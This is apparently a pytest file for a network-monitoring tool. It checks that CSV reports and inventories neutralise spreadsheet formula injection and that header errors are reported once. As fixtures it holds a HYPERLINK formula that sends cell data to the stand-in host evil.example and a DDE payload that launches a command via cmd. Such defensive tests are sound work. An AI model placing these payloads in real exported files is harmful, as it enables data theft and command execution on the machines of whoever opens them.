"""Issue 16: CSV cells never open as formulas; a CSV inventory's header is checked once."""

from __future__ import annotations

import csv
import io
from pathlib import Path

from netmon.csvsafe import TRIGGERS
from netmon.inventory import load_inventory
from netmon.inventory.generate import dump_csv, generate
from tests.conftest import ROOT, run_netmon

EVIL = '=HYPERLINK("http://evil.example/?d="&A1,"open")'


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def test_compliance_csv_neutralises_formulas(tmp_path: Path) -> None:
    src = (ROOT / "tests" / "compliance" / "configs" / "huawei_noncompliant.cfg").read_text(encoding="utf-8")
    lines = [f" sysname {EVIL}" if ln.startswith(" sysname ") else ln for ln in src.splitlines()]
    lines.insert(
        max(i for i, ln in enumerate(lines) if ln.strip() == "return"), "interface Vlanif99\n description -2+3 @SUM(A1)"
    )
    cfg = tmp_path / "=evil.cfg"
    cfg.write_text("\n".join(lines) + "\n", encoding="utf-8")
    out = tmp_path / "report.csv"
    r = run_netmon("scan", str(cfg), "-f", "csv", "-o", str(out))
    assert r.returncode in (0, 1), r.stderr  # 1: findings at or above --fail-on are not the point here
    rows = _cells(out.read_text(encoding="utf-8"))
    assert len(rows) > 10
    assert {row[0] for row in rows[1:]} == {"'" + EVIL}  # the device named by its sysname
    for row in rows:
        for cell in row:
            assert not cell.startswith(TRIGGERS), cell


def test_inventory_csv_neutralised_and_read_back(tmp_path: Path) -> None:
    doc = generate("small")
    leaf = doc["devices"][-1]  # a township device: nothing hangs off its site
    leaf["site"] = "=cmd|' /C calc'!A0"
    leaf["role"] = "-access"  # a value that really starts with a minus sign
    text = dump_csv(doc)
    for row in _cells(text):
        for cell in row:
            assert not cell.startswith(TRIGGERS), cell
    p = tmp_path / "inv.csv"
    p.write_text(text, encoding="utf-8")
    inv = load_inventory([p])
    dev = inv.devices[leaf["name"]]
    assert (dev.site, dev.role) == ("=cmd|' /C calc'!A0", "-access")


def test_csv_inventory_header_reported_once(tmp_path: Path) -> None:
    full = tmp_path / "full.csv"
    assert run_netmon("inventory", "generate", "--size", "small", "-o", str(full)).returncode == 0
    rows = _cells(full.read_text(encoding="utf-8"))
    assert len(rows) > 50

    def write(name: str, drop: str | None = None, extra: str | None = None) -> Path:
        idx = rows[0].index(drop) if drop else None
        out = []
        for i, row in enumerate(rows):
            row = [c for j, c in enumerate(row) if j != idx]
            if extra:
                row.append(extra if i == 0 else "")  # empty cells: nothing to complain about per row
            out.append(row)
        p = tmp_path / name
        buf = io.StringIO()
        csv.writer(buf, lineterminator="\n").writerows(out)
        p.write_text(buf.getvalue(), encoding="utf-8")
        return p

    for col in ("site", "region"):
        r = run_netmon("inventory", "validate", "-i", str(write(f"no-{col}.csv", drop=col)))
        assert r.returncode == 2 and "Traceback" not in r.stderr
        errors = [ln for ln in r.stderr.splitlines() if ln.startswith("error")]
        assert len(errors) == 1, errors[:5]
        assert f":1: the header has no '{col}' column" in errors[0]

    r = run_netmon("inventory", "validate", "-i", str(write("extra.csv", extra="adress")))
    errors = [ln for ln in r.stderr.splitlines() if ln.startswith("error")]
    assert r.returncode == 2 and len(errors) == 1, r.stderr[-2000:]
    assert "extra.csv:1: adress: unknown column 'adress'" in errors[0]
